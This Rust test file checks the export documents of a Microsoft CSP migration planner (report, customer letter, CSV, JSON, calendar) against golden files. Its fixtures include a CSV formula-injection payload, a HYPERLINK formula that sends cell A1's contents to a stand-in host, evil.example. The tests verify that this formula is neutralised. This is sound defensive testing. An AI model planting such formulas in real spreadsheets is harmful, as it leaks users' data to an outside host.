//! The plan documents, as golden files in both languages: the demo plan of a fixed
//! day, rendered as the report (Markdown), the customer letter, CSV, JSON and the
//! calendar, compared byte for byte with `tests/golden/export/`.
//!
//! After an intended change, regenerate with `UPDATE_GOLDEN=1 cargo test --test export_documents`
//! and read the diff.

#![allow(
    clippy::panic,
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test helpers fail the test by panicking"
)]

use std::path::PathBuf;

use chrono::{NaiveDate, NaiveDateTime};
use csp_planner::catalog::Catalog;
use csp_planner::cost::{assess, CostPlan};
use csp_planner::draft::Draft;
use csp_planner::export::csv::{plan_to_csv, Separator};
use csp_planner::export::ics::plan_to_ics;
use csp_planner::export::json::{draft_from_plan_json, plan_with_draft_json};
use csp_planner::export::letter::customer_letter;
use csp_planner::export::markdown::to_markdown;
use csp_planner::export::report::partner_report;
use csp_planner::export::{file_name, FileKind};
use csp_planner::i18n::Lang;
use csp_planner::model::{Channel, PlanInput, SourceRef, Subscription, SubscriptionStatus};
use csp_planner::plan::{make_plan, Plan};

fn as_of() -> NaiveDate {
    NaiveDate::from_ymd_opt(2026, 11, 24).unwrap_or_default()
}

/// The export time of the JSON files (2026-11-24 09:30 UTC).
const SAVED_AT_MS: i64 = 1_795_512_600_000;

fn stamp() -> NaiveDateTime {
    as_of().and_hms_opt(9, 30, 0).unwrap_or_default()
}

/// The demo customer, plus a line whose product name is a spreadsheet formula and
/// one whose name needs escaping in Markdown and iCalendar.
fn input() -> PlanInput {
    let mut input = csp_planner::demo::demo_input(as_of());
    input.subscriptions.push(Subscription {
        subscription_id: "HAND-015".into(),
        product: "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")".into(),
        seats_total: 3,
        status: SubscriptionStatus::Active,
        channel: Channel::Direct,
        term_end: as_of().checked_add_days(chrono::Days::new(90)),
        source: SourceRef { file: "hand-made.csv".into(), line: 7 },
        ..Subscription::default()
    });
    input.subscriptions.push(Subscription {
        subscription_id: "HAND-016".into(),
        product: "Visio; Plan 2, <b>bold</b> \\ *stars*".into(),
        sku_id: Some("c5928f49-12ba-48f7-ada3-0d743a3601d5".into()),
        seats_total: 2,
        status: SubscriptionStatus::Active,
        channel: Channel::Direct,
        term_end: as_of().checked_add_days(chrono::Days::new(33)),
        source: SourceRef { file: "hand-made.csv".into(), line: 8 },
        ..Subscription::default()
    });
    // Another partner's subscription ending before a transfer can be made: bought in
    // CSP, the current partner turns auto-renew off.
    input.subscriptions.push(Subscription {
        subscription_id: "HAND-017".into(),
        product: "Microsoft 365 Business Standard".into(),
        sku_id: Some("f245ecc8-75af-4f8e-b61f-27d8114de5f3".into()),
        seats_total: 5,
        status: SubscriptionStatus::Active,
        channel: Channel::CspNce,
        auto_renew: Some(true),
        term_end: as_of().checked_add_days(chrono::Days::new(5)),
        source: SourceRef { file: "hand-made.csv".into(), line: 9 },
        ..Subscription::default()
    });
    input
}

fn draft() -> Draft {
    Draft::new("d1764000000000-golden".into(), 1_764_000_000_000, input())
}

fn cost(plan: &Plan, input: &PlanInput) -> CostPlan {
    assess(plan, input, Catalog::builtin())
}

fn plan() -> Plan {
    make_plan(&draft().input, Catalog::builtin())
}

fn golden(name: &str, actual: &str) {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/golden/export").join(name);
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent).unwrap_or_else(|error| panic!("{}: {error}", parent.display()));
        }
        std::fs::write(&path, actual).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
        return;
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_else(|error| {
        panic!("{}: {error} (run with UPDATE_GOLDEN=1 to create it)", path.display())
    });
    if expected != actual {
        let first_difference = expected
            .lines()
            .zip(actual.lines())
            .position(|(left, right)| left != right)
            .unwrap_or(expected.lines().count().min(actual.lines().count()));
        panic!(
            "{name} differs from its golden file at line {}:\n  golden: {:?}\n  actual: {:?}\n(run with UPDATE_GOLDEN=1 after checking the change is intended)",
            first_difference + 1,
            expected.lines().nth(first_difference),
            actual.lines().nth(first_difference)
        );
    }
}

#[test]
fn the_partner_report_in_markdown_matches_its_golden_file_in_both_languages() {
    let plan = plan();
    for lang in Lang::ALL {
        golden(
            &format!("report.{}.md", lang.code()),
            &to_markdown(&partner_report(&plan, &draft().input, &cost(&plan, &draft().input), lang)),
        );
    }
}

#[test]
fn the_customer_letter_matches_its_golden_file_in_both_languages() {
    let plan = plan();
    for lang in Lang::ALL {
        golden(
            &format!("letter.{}.md", lang.code()),
            &to_markdown(&customer_letter(&plan, &draft().input.partner, &cost(&plan, &draft().input), lang)),
        );
    }
}

#[test]
fn the_csv_matches_its_golden_file_with_each_separator_and_language() {
    let plan = plan();
    golden(
        "plan.en.comma.csv",
        &plan_to_csv(&plan, &cost(&plan, &draft().input), Separator::Comma, Lang::En),
    );
    golden(
        "plan.fr.semicolon.csv",
        &plan_to_csv(&plan, &cost(&plan, &draft().input), Separator::Semicolon, Lang::Fr),
    );
}

#[test]
fn the_json_matches_its_golden_file_in_both_languages() {
    let plan = plan();
    for lang in Lang::ALL {
        golden(
            &format!("plan.{}.json", lang.code()),
            &plan_with_draft_json(&plan, &cost(&plan, &draft().input), &draft(), lang, SAVED_AT_MS),
        );
    }
}

#[test]
fn the_calendar_matches_its_golden_file_in_both_languages() {
    let plan = plan();
    for lang in Lang::ALL {
        golden(&format!("calendar.{}.ics", lang.code()), &plan_to_ics(&plan, lang, stamp()));
    }
}

#[test]
fn file_names_of_the_demo_carry_the_customer_and_the_date() {
    let names: Vec<String> = FileKind::ALL
        .iter()
        .map(|kind| file_name(*kind, "Contoso Rénovation SAS", as_of(), Lang::Fr))
        .collect();
    assert_eq!(
        names,
        [
            "rapport-migration-contoso-renovation-sas-2026-11-24.md",
            "lettre-client-contoso-renovation-sas-2026-11-24.md",
            "plan-migration-contoso-renovation-sas-2026-11-24.csv",
            "migration-plan-contoso-renovation-sas-2026-11-24.json",
            "calendrier-migration-contoso-renovation-sas-2026-11-24.ics",
            "liste-achats-contoso-renovation-sas-2026-11-24.csv",
            "prix-de-vente-contoso-renovation-sas-2026-11-24.csv",
        ]
    );
}

#[test]
fn the_json_file_imports_back_as_an_identical_draft() {
    let draft = draft();
    let plan = plan();
    for lang in Lang::ALL {
        let text = plan_with_draft_json(&plan, &cost(&plan, &draft.input), &draft, lang, SAVED_AT_MS);
        let value: serde_json::Value = serde_json::from_str(&text).unwrap_or_default();
        assert_eq!(
            value["schema_version"],
            serde_json::json!(csp_planner::export::json::PLAN_JSON_SCHEMA_VERSION)
        );
        assert_eq!(value["draft"]["schema_version"], serde_json::json!(csp_planner::draft::SCHEMA_VERSION));
        assert_eq!(value["draft"]["saved_at_ms"], serde_json::json!(SAVED_AT_MS));
        assert_eq!(draft_from_plan_json(&text), Ok(draft.clone()));
        // The draft read straight from the JSON, without the app's decoder, is the same too.
        assert_eq!(
            serde_json::from_value::<Draft>(value["draft"]["draft"].clone()).ok(),
            Some(draft.clone())
        );
        // The plan made again from the imported draft is the plan that was exported.
        let reimported = draft_from_plan_json(&text).unwrap_or_default();
        assert_eq!(make_plan(&reimported.input, Catalog::builtin()), plan);
    }
    assert!(draft_from_plan_json("{\"schema_version\":1}").is_err());
    assert!(draft_from_plan_json("not json").is_err());
}

#[test]
fn a_formula_in_an_imported_product_name_is_neutralised_in_the_csv() {
    let csv = plan_to_csv(&plan(), &cost(&plan(), &draft().input), Separator::Comma, Lang::En);
    assert!(csv.starts_with('\u{FEFF}'), "UTF-8 byte order mark for Excel");
    let mut reader = csv::ReaderBuilder::new().from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
    let header: Vec<String> =
        reader.headers().map(|header| header.iter().map(str::to_string).collect()).unwrap_or_default();
    assert_eq!(&header[..4], ["Customer", "Subscription ID", "Product", "Channel"]);
    let records: Vec<csv::StringRecord> = reader.records().filter_map(Result::ok).collect();
    assert_eq!(records.len(), draft().input.subscriptions.len());
    let injected = records
        .iter()
        .find(|record| record.get(1) == Some("HAND-015"))
        .map(|record| record.get(2).unwrap_or_default().to_string());
    assert_eq!(injected.as_deref(), Some("'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")"));
    for record in &records {
        for cell in record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "cell {cell:?} would run as a formula"
            );
        }
    }
    // Lines end in CRLF, dates are ISO.
    assert!(csv.contains("\r\n") && !csv.replace("\r\n", "").contains('\n'));
    assert!(records.iter().any(|record| record.iter().any(|cell| cell == "2026-12-15")));
}

#[test]
fn the_semicolon_csv_uses_decimal_commas_and_french_headers() {
    let csv = plan_to_csv(&plan(), &cost(&plan(), &draft().input), Separator::Semicolon, Lang::Fr);
    let mut reader =
        csv::ReaderBuilder::new().delimiter(b';').from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
    let header: Vec<String> =
        reader.headers().map(|header| header.iter().map(str::to_string).collect()).unwrap_or_default();
    assert_eq!(header.first().map(String::as_str), Some("Client"));
    let cost_column = header.iter().position(|name| name.starts_with("Coût")).unwrap_or(usize::MAX);
    let costs: Vec<String> = reader
        .records()
        .filter_map(Result::ok)
        .filter_map(|record| record.get(cost_column).map(str::to_string))
        .filter(|cost| !cost.is_empty())
        .collect();
    assert!(
        !costs.is_empty() && costs.iter().all(|cost| cost.contains(',') && !cost.contains('.')),
        "{costs:?}"
    );
}

/// Unfolds an iCalendar text (RFC 5545 §3.1) into its content lines.
fn unfold(text: &str) -> Vec<String> {
    text.replace("\r\n ", "").split("\r\n").filter(|line| !line.is_empty()).map(str::to_string).collect()
}

#[test]
fn the_calendar_is_well_formed_rfc_5545() {
    let plan = plan();
    for lang in Lang::ALL {
        let text = plan_to_ics(&plan, lang, stamp());
        assert!(text.ends_with("END:VCALENDAR\r\n"));
        assert!(!text.replace("\r\n", "").contains('\n'), "bare LF");
        for physical in text.split("\r\n") {
            assert!(physical.len() <= 75, "{} octets: {physical:?}", physical.len());
        }
        let lines = unfold(&text);
        let events = lines.iter().filter(|line| *line == "BEGIN:VEVENT").count();
        assert!(events >= 10, "{events} events");
        assert_eq!(
            lines.iter().filter(|line| *line == "BEGIN:VALARM").count(),
            events,
            "one reminder per event"
        );
        let mut uids: Vec<&String> = lines.iter().filter(|line| line.starts_with("UID:")).collect();
        assert_eq!(uids.len(), events);
        uids.sort();
        uids.dedup();
        assert_eq!(uids.len(), events, "UIDs are unique");
        assert_eq!(lines.iter().filter(|line| line.starts_with("DTSTAMP:20261124T093000Z")).count(), events);
        let summaries: Vec<&String> = lines.iter().filter(|line| line.starts_with("SUMMARY:")).collect();
        assert!(summaries.iter().all(|summary| summary.contains("Contoso Rénovation SAS")));
        // The product name with `;`, `,` and `\` is escaped in the title.
        assert!(
            summaries.iter().any(|summary| summary.contains("Visio\\; Plan 2\\, <b>bold</b> \\\\ *stars*")),
            "{summaries:?}"
        );
        // Every milestone kind of the demo is there.
        for kind in [
            "relationship-request",
            "auto-renew-off",
            "transfer",
            "purchase",
            "cancel-window-ends",
            "data-at-risk",
        ] {
            assert!(uids.iter().any(|uid| uid.starts_with(&format!("UID:{kind}."))), "{kind}");
        }
    }
    // The same plan gives the same UIDs: a newer export updates the events.
    let again = plan_to_ics(&plan, Lang::En, stamp());
    assert_eq!(again, plan_to_ics(&plan, Lang::En, stamp()));
}

#[test]
fn the_report_puts_blockers_first_and_marks_estimates() {
    let plan = plan();
    for lang in Lang::ALL {
        let markdown =
            to_markdown(&partner_report(&plan, &draft().input, &cost(&plan, &draft().input), lang));
        let blockers = markdown.find(lang.pick("## Blockers", "## Points bloquants")).unwrap_or(usize::MAX);
        let subscriptions = markdown.find(lang.pick("## Subscriptions", "## Abonnements")).unwrap_or(0);
        assert!(blockers < subscriptions, "blockers come before the subscriptions");
        assert!(markdown.contains(lang.pick("*(estimated)*", "*(estimation)*")));
        assert!(markdown.contains("Contoso Rénovation SAS") && markdown.contains("Lumière Cloud Services"));
        // Imported text cannot turn into markup.
        assert!(markdown.contains("\\<b\\>bold\\</b\\>"));
    }
}

#[test]
fn the_letter_is_in_the_chosen_language_and_names_what_the_customer_does() {
    let plan = plan();
    let english =
        to_markdown(&customer_letter(&plan, &draft().input.partner, &cost(&plan, &draft().input), Lang::En));
    let french =
        to_markdown(&customer_letter(&plan, &draft().input.partner, &cost(&plan, &draft().input), Lang::Fr));
    for needle in [
        "reseller relationship",
        "Microsoft Customer Agreement",
        "GDAP",
        "recurring billing",
        "automatic renewal",
        "billing support",
        "What your users will notice",
    ] {
        assert!(english.contains(needle), "{needle}");
    }
    for needle in [
        "relation de revendeur",
        "Contrat client Microsoft",
        "GDAP",
        "facturation récurrente",
        "renouvellement automatique",
        "support de facturation",
        "Ce que vos utilisateurs remarqueront",
    ] {
        assert!(french.contains(needle), "{needle}");
    }
    assert!(!french.contains("What we ask"));
}

/// The parenthesis after each mention of `product` in `text`: `10 of today’s 12 licenses`.
fn seat_mentions(text: &str, product: &str) -> Vec<String> {
    let needle = format!("{product} (");
    text.match_indices(&needle)
        .filter_map(|(start, _)| {
            let rest = &text[start + needle.len()..];
            rest.find(')').map(|end| rest[..end].to_string())
        })
        .collect()
}

#[test]
fn the_letter_counts_a_subscriptions_seats_the_same_way_in_every_section() {
    let plan = plan();
    let input = draft().input;
    // The demo's Power BI Pro has 12 seats and moves with 10 (an override): once
    // said as 12, then as 10, the letter read as two different counts.
    for (lang, expected) in
        [(Lang::En, "10 of today’s 12 licenses"), (Lang::Fr, "10 des 12 licences actuelles")]
    {
        let letter = to_markdown(&customer_letter(&plan, &input.partner, &cost(&plan, &input), lang));
        let mentions = seat_mentions(&letter, "Power BI Pro");
        assert!(mentions.len() >= 3, "{lang:?}: {mentions:?}");
        assert!(mentions.iter().all(|mention| mention == expected), "{lang:?}: {mentions:?}");
        // Every other product of the demo keeps one count throughout.
        for line in plan.lines() {
            let product = line.product.trim();
            let mut counts = seat_mentions(&letter, product);
            counts.retain(|mention| mention.chars().next().is_some_and(|first| first.is_ascii_digit()));
            counts.sort();
            counts.dedup();
            let same_name = plan.lines().filter(|other| other.product.trim() == product).count();
            assert!(counts.len() <= same_name, "{lang:?} {product}: {counts:?}");
        }
    }
}

#[test]
fn the_letter_carries_the_partners_contact_signatory_and_logo() {
    let plan = plan();
    let mut input = draft().input;
    let english = to_markdown(&customer_letter(&plan, &input.partner, &cost(&plan, &input), Lang::En));
    assert!(english.contains(
        "- **Your contact**: Camille Martin, camille.martin@lumiere-cloud.example, +33 1 23 45 67 89\n"
    ));
    assert!(english
        .ends_with("Kind regards,\n\n**Julien Bernard**, Directeur commercial, Lumière Cloud Services\n"));
    let french = to_markdown(&customer_letter(&plan, &input.partner, &cost(&plan, &input), Lang::Fr));
    assert!(french.contains("- **Votre contact** : Camille Martin"));

    // A logo is an image block at the top, left out of the Markdown; one that is not
    // a raster data URL is dropped.
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89";
    input.partner.logo = Some(csp_planner::export::logo::logo_data_url(png).unwrap());
    let letter = customer_letter(&plan, &input.partner, &cost(&plan, &input), Lang::Fr);
    match &letter.blocks[0] {
        csp_planner::export::Block::Image { data_url, alt } => {
            assert!(data_url.starts_with("data:image/png;base64,"));
            assert_eq!(alt, "Logo de Lumière Cloud Services");
        }
        other => panic!("the letter starts with {other:?}"),
    }
    assert!(!to_markdown(&letter).contains("data:"));
    input.partner.logo = Some("data:image/svg+xml;base64,PHN2Zz4=".into());
    let letter = customer_letter(&plan, &input.partner, &cost(&plan, &input), Lang::En);
    assert!(!letter.blocks.iter().any(|block| matches!(block, csp_planner::export::Block::Image { .. })));
}

#[test]
fn a_plan_of_several_customers_gives_one_section_and_one_letter_each() {
    let mut input = input();
    let mut second = input.subscriptions[0].clone();
    second.customer = "Fabrikam Ltd".into();
    second.subscription_id = "FAB-001".into();
    input.subscriptions.push(second);
    let plan = make_plan(&input, Catalog::builtin());
    assert_eq!(plan.customers.len(), 2);
    let report = to_markdown(&partner_report(&plan, &input, &cost(&plan, &input), Lang::En));
    assert!(report.starts_with("# Migration plan: Contoso Rénovation SAS +1\n"));
    assert!(report.contains("\n## Contoso Rénovation SAS\n") && report.contains("\n## Fabrikam Ltd\n"));
    let letter = customer_letter(&plan, &input.partner, &cost(&plan, &input), Lang::Fr);
    assert_eq!(
        letter.blocks.iter().filter(|block| matches!(block, csp_planner::export::Block::PageBreak)).count(),
        1
    );
    assert!(letter.plain_text().contains("Fabrikam Ltd"));
    let calendar = plan_to_ics(&plan, Lang::En, stamp());
    let lines = unfold(&calendar);
    let mut uids: Vec<&String> = lines.iter().filter(|line| line.starts_with("UID:")).collect();
    let count = uids.len();
    uids.sort();
    uids.dedup();
    assert_eq!(uids.len(), count, "UIDs stay unique across customers");
    assert!(lines.iter().any(|line| line.starts_with("SUMMARY:Fabrikam Ltd – ")));
    assert_eq!(
        file_name(FileKind::Csv, &csp_planner::export::plan_customer_name(&plan), as_of(), Lang::En),
        "migration-plan-contoso-renovation-sas-1-2026-11-24.csv"
    );
}

#[test]
fn documents_name_a_product_the_file_gave_by_part_number_and_hide_made_up_ids() {
    let mut input = input();
    input.subscriptions.push(Subscription {
        subscription_id: "ENTERPRISEPREMIUM@cipp-license-report.csv:2".into(),
        product: "ENTERPRISEPREMIUM".into(),
        sku_part_number: Some("ENTERPRISEPREMIUM".into()),
        sku_id: Some("c7df2760-2c81-4ef7-b578-5b5392b571df".into()),
        seats_total: 4,
        status: SubscriptionStatus::Active,
        channel: Channel::Direct,
        term_end: as_of().checked_add_days(chrono::Days::new(60)),
        source: SourceRef { file: "cipp-license-report.csv".into(), line: 2 },
        ..Subscription::default()
    });
    let plan = make_plan(&input, Catalog::builtin());
    for lang in Lang::ALL {
        let report = to_markdown(&partner_report(&plan, &input, &cost(&plan, &input), lang));
        let letter = to_markdown(&customer_letter(&plan, &input.partner, &cost(&plan, &input), lang));
        for (name, text) in [("report", &report), ("letter", &letter)] {
            assert!(text.contains("Office 365 E5"), "{name} {lang:?} names the product");
            let shown: Vec<&str> =
                text.lines().filter(|line| line.contains("@cipp-license-report.csv")).collect();
            assert!(shown.is_empty(), "{name} {lang:?} shows a made-up id: {shown:?}");
        }
        // The subscription's heading is the product's name alone.
        assert!(report.contains("\n### Office 365 E5\n"), "{lang:?}");
        // The part number stays where it is a part number: the purchase list names the SKU to order.
        let headings: Vec<&str> = report.lines().filter(|line| line.starts_with('#')).collect();
        assert!(!headings.iter().any(|heading| heading.contains("ENTERPRISEPREMIUM")), "{headings:?}");
    }
}
